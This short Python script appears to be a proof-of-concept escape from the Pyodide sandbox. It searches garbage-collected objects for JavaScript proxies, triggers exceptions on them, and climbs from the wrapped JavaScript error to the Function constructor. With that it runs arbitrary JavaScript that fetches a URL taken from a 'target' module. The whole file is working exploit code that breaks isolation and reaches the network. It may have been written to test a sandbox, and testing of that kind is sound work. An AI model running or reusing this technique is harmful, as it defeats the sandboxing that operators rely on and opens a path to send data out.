"""Use the JavaScript error behind an exception of Pyodide's."""

import gc

from target import URL

gc.unfreeze()
for thing in [r for o in gc.get_objects() for r in gc.get_referents(o)]:
    if not type(thing).__name__.startswith("Js"):
        continue
    try:
        thing.no_such_method.at_all()
    except BaseException as error:
        try:
            print("GOT", error.js_error.constructor.constructor(f"return fetch('{URL}')")())
        except BaseException:
            continue
